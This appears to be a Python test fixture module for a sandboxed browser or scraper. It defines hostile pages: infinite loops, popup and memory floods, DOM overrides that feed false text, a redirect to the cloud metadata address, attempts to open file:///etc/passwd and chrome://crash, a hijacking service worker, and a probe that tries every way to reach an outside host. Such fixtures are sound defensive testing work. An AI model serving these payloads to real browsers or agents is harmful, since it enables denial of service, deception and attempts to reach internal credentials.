"""Pages whose scripts are hostile; hostile responses are in `bodies`."""

from collections.abc import Mapping
from typing import Final

PAGES: Final[Mapping[str, str]] = {
    "/": "<h1>Trouble</h1>",
    "/loop": "<p>a</p><script>setTimeout(() => { for (;;) {} }, 0)</script>",
    "/loop-at-once": "<p>a</p><script>for (;;) {}</script>",
    "/alerts": "<p>a</p><script>for (;;) { alert(1); confirm(2); prompt(3); }</script>",
    "/popups": "<p>a</p><script>for (let i = 0; i < 3000; i++) open('/popup?' + i)</script>",
    "/popup": "<p>p</p><script>alert(1); open('/popup')</script>",
    "/leaving": """<p>a</p><script>
      addEventListener("beforeunload", e => { e.preventDefault(); e.returnValue = "stay"; });
    </script>""",
    "/metadata": """<meta http-equiv=refresh
      content="0;url=http://169.254.169.254/latest/meta-data/"><p>a</p>""",
    "/grow": """<p>a</p><script>
      setInterval(() => {
        const grown = document.createElement("div");
        grown.innerHTML = "<b>x</b>".repeat(50000);
        document.body.append(grown);
      }, 10);
    </script>""",
    "/hoard": """<p>a</p><script>
      const kept = [];
      setInterval(() => kept.push(new Uint8Array(32 << 20).fill(7)), 10);
    </script>""",
    "/hoard-at-once": """<p>a</p><script>
      const kept = [];
      for (;;) kept.push(new Uint8Array(8 << 20).fill(kept.length));
    </script>""",
    "/wide": """<style>body { margin: 0 }
      #wide { width: 12000px; height: 16000px; background: linear-gradient(45deg, red, blue) }
      </style><div id=wide></div>""",
    "/blobs": """<p>a</p><script>
      const kept = [];
      setInterval(() => kept.push(new Blob([new Uint8Array(16 << 20).fill(kept.length)])), 50);
    </script>""",
    "/caches": """<p>a</p><script>
      const fill = async () => {
        const cache = await caches.open("kept");
        for (let i = 0; ; i++)
          await cache.put("/kept?" + i, new Response(new Uint8Array(16 << 20).fill(i)));
      };
      fill();
    </script>""",
    "/overridden": """<title>true</title>
      <main><p id=said>true</p><a href="/true">true</a></main>
      <div style="height: 60000px"></div><script>
      const lie = () => "false".repeat(1 << 22);
      for (const name of ["slice", "toString", "valueOf"]) String.prototype[name] = lie;
      String = lie;
      Array.from = Array.prototype.map = Array.prototype.slice = Object.entries = lie;
      Object.fromEntries = lie;
      const override = (kind, name, get) => Object.defineProperty(kind.prototype, name, {get});
      for (const name of ["innerText", "outerHTML", "innerHTML"]) override(HTMLElement, name, lie);
      override(Node, "textContent", lie);
      override(Document, "title", lie);
      override(HTMLAnchorElement, "href", lie);
      for (const name of ["scrollHeight", "scrollWidth", "clientHeight"])
        override(Element, name, () => 10);
      Object.defineProperty(window, "devicePixelRatio", {get: () => 1e-9});
      Element.prototype.getAttribute = lie;
      Element.prototype.cloneNode = function () { return this; };
    </script>""",
    "/overridden-text": """<title>true</title><p>true</p><script>
      const lie = () => "false".repeat(1 << 22);
      String = lie;
      Object.defineProperty(HTMLElement.prototype, "innerText", {get: lie});
      Object.defineProperty(Document.prototype, "title", {get: lie});
    </script>""",
    "/rewrites": """<p>a</p><script>
      setInterval(() => history.pushState({}, "", "/rewrites?" + Math.random()), 0);
    </script>""",
    "/reloads": "<p>a</p><script>setTimeout(() => location.reload(), 5)</script>",
    "/service-worker": """<p id=said></p><script>
      const said = text => { document.getElementById("said").textContent = text; };
      const workers = navigator.serviceWorker;
      if (!workers) said("none");
      else workers.register("/sw.js").then(
        () => workers.ready.then(() => said("registered")), error => said("refused"));
      setTimeout(() => {
        if (!document.getElementById("said").textContent) said("inactive");
      }, 800);
    </script>""",
    "/remember": """<p id=found></p><script>
      document.getElementById("found").textContent = [
        document.cookie, localStorage.kept, sessionStorage.kept, name,
      ].filter(Boolean).join() || "nothing";
      document.cookie = "kept=1; max-age=99999";
      localStorage.kept = sessionStorage.kept = name = "kept";
      indexedDB.open("kept", 1);
      caches?.open("kept").then(cache => cache.put("/kept", new Response("kept")));
    </script>""",
    "/databases": """<p id=found></p><script>
      Promise.all([indexedDB.databases(), globalThis.caches ? caches.keys() : []]).then(
        ([databases, kept]) => {
          document.getElementById("found").textContent = databases.length + kept.length + " kept";
        });
    </script>""",
    "/downloads": """<p>a</p><script>
      for (let i = 0; i < 20; i++) {
        const link = document.createElement("a");
        link.href = "/download?" + i;
        link.download = "f" + i;
        document.body.append(link);
        link.click();
      }
    </script>""",
    "/schemes": """<p id=here>here</p>
      <iframe src="file:///etc/passwd"></iframe><iframe src="chrome://version"></iframe>
      <iframe src="devtools://devtools"></iframe><iframe src="view-source:http://x"></iframe>
      <embed src="file:///etc/passwd"><object data="file:///etc/passwd"></object>
      <script>
        for (const url of ["file:///etc/passwd", "chrome://crash", "data:text/html,<h1>out</h1>",
                           "filesystem:http://x/y", "ftp://127.0.0.1/", "about:crash"]) {
          try { location = url } catch (e) {}
          try { open(url) } catch (e) {}
          fetch(url).catch(() => 0);
        }
      </script>""",
    "/unclosed": "<div>" * 20_000 + "deep",
    "/many": """<p>a</p><script>
      for (let i = 0; i < 60; i++) {
        fetch(`http://h${i}.many.test:${location.port}/silent`, {mode: "no-cors"}).catch(() => 0);
      }
    </script>""",
}

SERVICE_WORKER: Final = """
  self.addEventListener("install", () => self.skipWaiting());
  self.addEventListener("fetch", event => event.respondWith(new Response("taken over")));
"""


def build_probe_page(host: str, port: str) -> str:
    """Try every way in which a page can connect to another host."""
    address = f"{host}:{port}"
    return f"""<p id=said>trying</p>
      <img src="http://{address}/image"><script src="http://{address}/script.js"></script>
      <link rel=preconnect href="http://{address}"><link rel=dns-prefetch href="//{host}">
      <link rel=stylesheet href="http://{address}/style.css">
      <link rel=prefetch href="http://{address}/prefetch">
      <iframe src="http://{address}/frame"></iframe><object data="http://{address}/object"></object>
      <video src="http://{address}/video" autoplay muted></video>
      <form id=f action="http://{address}/form" method=post target=nowhere><input name=a></form>
      <a id=a href="/" ping="http://{address}/ping">x</a>
      <script>
        const tries = [
          () => fetch("http://{address}/fetch", {{mode: "no-cors"}}),
          () => navigator.sendBeacon("http://{address}/beacon"),
          () => new WebSocket("ws://{address}/socket"),
          () => new EventSource("http://{address}/events"),
          () => new Worker(URL.createObjectURL(new Blob(["importScripts('http://{address}/w.js')"]))),
          () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://{address}/sw')"]))),
          () => open("http://{address}/popup"),
          () => document.getElementById("f").submit(),
          () => new WebTransport("https://{address}/transport").ready,
          () => new XMLHttpRequest().open("GET", "http://{address}/xhr", false),
          () => {{
            const peer = new RTCPeerConnection({{iceServers: [
              {{urls: "stun:{address}"}},
              {{urls: "turn:{address}?transport=tcp", username: "u", credential: "c"}},
              {{urls: "turn:{address}?transport=udp", username: "u", credential: "c"}},
            ]}});
            peer.createDataChannel("d");
            peer.createOffer().then(offer => peer.setLocalDescription(offer));
          }},
        ];
        for (const one of tries) {{
          try {{ Promise.resolve(one()).catch(() => 0) }} catch (e) {{}}
        }}
        setTimeout(() => {{ document.getElementById("said").textContent = "tried" }}, 1000);
      </script>"""
